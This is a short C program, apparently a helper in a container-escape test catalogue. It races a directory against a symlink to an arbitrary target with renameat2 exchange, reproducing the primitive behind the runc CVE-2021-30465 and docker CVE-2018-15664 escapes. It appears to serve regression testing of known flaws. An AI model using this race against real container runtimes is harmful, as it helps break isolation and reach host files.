/* xchg_race PATH TARGET: swaps PATH between a real directory and a
 * symbolic link to TARGET with renameat2(RENAME_EXCHANGE), as fast as it
 * can, until killed (tests/escape/CATALOGUE.md, appendix A.5; runc
 * CVE-2021-30465, docker CVE-2018-15664). PATH must be a directory
 * already; the link is made at PATH.xchg. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char alt[4096];

	if (argc != 3) {
		fprintf(stderr, "usage: xchg_race PATH TARGET\n");
		return 2;
	}
	snprintf(alt, sizeof(alt), "%s.xchg", argv[1]);
	unlink(alt);
	if (symlink(argv[2], alt) != 0) {
		perror("symlink");
		return 1;
	}
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, alt,
			    RENAME_EXCHANGE) != 0) {
			perror("renameat2");
			return 1;
		}
}
